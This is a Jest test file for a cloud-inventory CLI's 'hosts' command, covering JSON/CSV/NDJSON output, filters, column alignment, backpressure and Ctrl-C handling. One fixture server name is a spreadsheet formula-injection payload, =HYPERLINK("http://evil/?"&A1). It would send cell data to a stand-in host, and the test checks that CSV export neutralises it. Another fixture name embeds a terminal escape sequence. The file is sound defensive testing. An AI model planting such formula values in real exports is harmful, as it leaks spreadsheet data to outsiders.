import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import stringWidth from 'string-width';
import { main } from '../../src/cli/main.ts';
import { openWorkplace, type Workplace } from '../helpers/run-program.ts';
import { expectError, expectHelp, expectUsage } from './helpers/expectations.ts';
import { expectSchema } from './helpers/schemas.ts';

const servers = 400;

describe('hosts', () => {
  let place: Workplace;
  beforeAll(async () => {
    place = await openWorkplace({ accounts: 2, servers, regions: ['cn-north-4', 'cn-east-3'], pageSize: 100 });
    const { state } = place.sandbox;
    state.addServer('cn-north-4', { name: '=HYPERLINK("http://evil/?"&A1)', status: 'SHUTOFF' });
    state.addServer('cn-north-4', { name: '生产-数据库', status: 'BUILD' });
    state.addServer('cn-north-4', { name: 'plain name', status: 'BUILD' });
    state.addServer('cn-east-3', { name: 'escape \u001b[31m and "quotes", commas' });
    await place.onboardQuick('production', 0);
    await place.onboardQuick('empty', 1, '--no-sync-now');
  }, 60_000);
  afterAll(() => place.close());

  const hosts = (...argv: string[]) => place.run(['hosts', ...argv]);
  const all = servers + 4;

  test('--help ends with examples', () => expectHelp(place, 'hosts'));

  test('--json prints what its schema says, a record a line', async () => {
    const result = await hosts('--json');
    expect(result.code).toBe(0);
    expectSchema('hosts', result.json);
    expect(result.json).toHaveLength(all);
    expect(result.stdout.split('\n')).toHaveLength(all + 3);
  });

  test('--output json prints the same', async () => {
    expect((await hosts('--output', 'json')).stdout).toBe((await hosts('--json')).stdout);
  });

  test('--output ndjson prints the items of --json, one a line', async () => {
    const lines = (await hosts('--output', 'ndjson')).stdout.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual((await hosts('--json')).json);
  });

  test('--output csv prints named columns; a name that is a formula stays a text', async () => {
    const { stdout } = await hosts('--output', 'csv', '--region', 'cn-north-4');
    const rows: Record<string, string>[] = parse(stdout, { columns: true });
    expect(rows).toHaveLength(servers / 2 + 3);
    expect(Object.keys(rows[0] ?? {}).slice(0, 6)).toEqual(['account', 'region', 'id', 'name', 'type', 'status']);
    expect(rows.map((row) => row.name)).toContain('\'=HYPERLINK("http://evil/?"&A1)');
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('the table has titles in words and columns that line up, Chinese counted double', async () => {
    const { stdout } = await hosts('--status', 'build');
    const [head = '', ...rows] = stdout.trimEnd().split('\n');
    expect(head).toMatch(/^ACCOUNT +REGION +NAME +STATUS +PRIVATE IP +PUBLIC IP +OS +FLAVOR$/);
    expect(rows).toHaveLength(2);
    const at = stringWidth(head.slice(0, head.indexOf('STATUS')));
    for (const row of rows) expect(stringWidth(row.slice(0, row.indexOf('BUILD')))).toBe(at);
  });

  test('a control character of a name never reaches the terminal', async () => {
    const { stdout } = await hosts('--search', 'escape');
    expect(stdout).toContain('escape  [31m and "quotes", commas');
    expect(stdout).not.toContain('\u001b');
  });

  test.each<[string[], number]>([
    [['--account', 'production'], all],
    [['--account', 'empty'], 0],
    [['--account', 'empty,production'], all],
    [['--region', 'cn-east-3'], servers / 2 + 1],
    [['--region', 'cn-east-3', '--region', 'cn-north-4'], all],
    [['--region', 'cn-nowhere-1'], 0],
    [['--status', 'BUILD'], 2],
    [['--status', 'build,shutoff', '--search', 'HYPERLINK'], 1],
    [['--type', 'ecs.server'], all],
    [['--type', 'evs.volumes'], 0],
    [['--search', '数据库', '--status', 'BUILD'], 1],
    [['--search', 'quotes", commas'], 1],
    [['--where', 'status = build and name ~ 数据'], 1],
    [['--where', 'status in (build, shutoff)', '--search', 'HYPERLINK'], 1],
    [['--where', 'account = production and region = cn-east-3'], servers / 2 + 1],
    [['--where', 'account != production'], 0],
    [['--where', 'createdAt > now'], 0],
  ])('%j chooses %i', async (flags, count) => {
    expect((await hosts(...flags, '--json')).json).toHaveLength(count);
  });

  test('nothing chosen is [] in JSON, a header in CSV, nothing in NDJSON and a hint in words', async () => {
    const none = ['--account', 'empty'];
    expect((await hosts(...none, '--json')).stdout).toBe('[]\n');
    expect((await hosts(...none, '--output', 'csv')).stdout).toMatch(/^account,region,id,[^\n]+\n$/);
    expect((await hosts(...none, '--output', 'ndjson')).stdout).toBe('');
    expect((await hosts(...none)).stdout).toContain('huawei-assets sync hosts');
  });

  test('--query picks from the whole list', async () => {
    expect((await hosts('--query', "[?status == 'BUILD'].name | sort(@)")).json).toEqual(['plain name', '生产-数据库']);
  });

  test('nothing is asked of the cloud', async () => {
    const before = place.sandbox.requests.length;
    await hosts('--json');
    expect(place.sandbox.requests).toHaveLength(before);
  });

  /** Runs with a reader of its own. */
  const runInto = (stdout: Writable, argv: string[], signal = new AbortController().signal) => {
    const stderr = new Writable({ write: (_chunk, _encoding, done) => done() });
    const io = { env: place.env, stdin: process.stdin, stderr, signal, now: Date.now, homeDir: place.home };
    return main({ ...io, argv, stdout });
  };

  test.each(['json', 'ndjson', 'csv'])('a slow reader of %s is waited for', async (format) => {
    let [held, most] = [0, 0];
    const slow = new Writable({
      highWaterMark: 1,
      decodeStrings: false,
      write: (chunk: string, _encoding, done) => {
        held = slow.writableLength;
        most = Math.max(most, held - chunk.length);
        setImmediate(done);
      },
    });
    expect(await runInto(slow, ['hosts', '--output', format])).toBe(0);
    expect(most).toBe(0);
  });

  test('Ctrl-C ends a list whose reader has stopped: exit 130', async () => {
    const stop = new AbortController();
    const stuck = new Writable({ highWaterMark: 1, write: () => stop.abort() });
    expect(await runInto(stuck, ['hosts', '--output', 'ndjson'], stop.signal)).toBe(130);
  });

  test.each<[string[], RegExp]>([
    [['--output', 'xml'], /table, json, ndjson, csv/],
    [['--json', '--output', 'csv'], /--json prints a JSON document/],
    [['--query', '[0]', '--output', 'ndjson'], /--query prints a JSON document/],
    [['--where', 'os ~'], /character 5: Expected expression after ~/],
    [['--where', 'publicip = null'], /no field "publicip" \(did you mean publicIp\?\)/],
  ])('%j is refused', (argv, says) => expectUsage(place, ['hosts', ...argv], says));

  test('a mark shows where a condition is not understood, Chinese counted double', async () => {
    const { code, stderr } = await hosts('--where', "name = '数据库' and\ncreatedAt > yesterday");
    expect(code).toBe(2);
    const [, shown = '', mark = ''] = stderr.split('\n');
    expect(shown).toBe("  name = '数据库' and createdAt > yesterday");
    expect(mark.trim()).toBe('^');
    expect(mark.length - 1).toBe(stringWidth(shown.slice(0, shown.indexOf('yesterday'))));
  });

  test('Ctrl-C ends a search that finds nothing', async () => {
    const stop = new AbortController();
    const nothing = new Writable({ write: (_chunk, _encoding, done) => done() });
    setImmediate(() => stop.abort());
    expect(await runInto(nothing, ['hosts', '--where', 'name = nobody', '--output', 'ndjson'], stop.signal)).toBe(130);
  });

  test('a damaged inventory is an error that names the file', async () => {
    const own = await openWorkplace();
    const { writeFile, mkdir } = await import('node:fs/promises');
    await mkdir(`${own.home}/data`);
    await writeFile(`${own.home}/data/inventory.db`, 'this is no database, whatever its name says'.repeat(100));
    const result = await own.run(['hosts', '--json']);
    expectError(result, 'inventory-error', 2);
    expect(result.error.error.message).toContain('inventory.db');
    await own.close();
  });
});
